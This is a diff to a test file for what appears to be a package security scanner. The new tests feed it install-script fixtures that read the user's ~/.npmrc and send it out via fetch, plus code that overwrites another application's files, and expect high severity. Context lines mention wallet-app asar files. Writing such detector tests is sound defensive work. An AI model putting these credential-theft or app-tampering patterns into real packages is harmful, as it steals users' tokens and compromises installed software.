@@ -84,3 +84,16 @@ test('the program of a wallet is high where it is written to, the own one of a d
   for (const path of ['Programs/atomic/resources/app.asar', 'exodus/app-25.1.0/resources/app.asar']) assert.equal(patch(path), 'high', path);
   assert.equal(patch('Programs/my-notes/resources/app.asar'), 'nothing');
 });
+
+test('bad: scripts of an installation that load each other read the file of a trade and send something', () => {
+  const files = { 'setup.js': 'require("./read")(require("os").homedir()).then(require("./send"))', 'read.js': 'const fs = require("fs/promises"); module.exports = (home) => fs.readFile(home + "/.npmrc")', 'send.js': 'module.exports = (bag) => fetch(u, { body: bag })' };
+  const of = (scripts: Record<string, string>) => findingsOf(rule, files, { original: { scripts } })[0]?.severity;
+  assert.deepEqual([of({ postinstall: 'node setup.js' }), of({ test: 'node setup.js' })], ['high', 'medium']);
+});
+
+test('bad: the program of another is overwritten', () => {
+  const path = '"/Applications/Editor.app/Contents/Resources/app/extensions/always/dist/main.js"';
+  assert.equal(worst(`require("fs").writeFileSync(${path}, text)`), 'high');
+  assert.equal(worst(`open(${path})`), 'low');
+  assert.equal(worst('require("child_process").spawn("/Applications/Editor.app/Contents/Resources/app/bin/code"); require("fs").writeFileSync(out, text)'), 'nothing');
+});
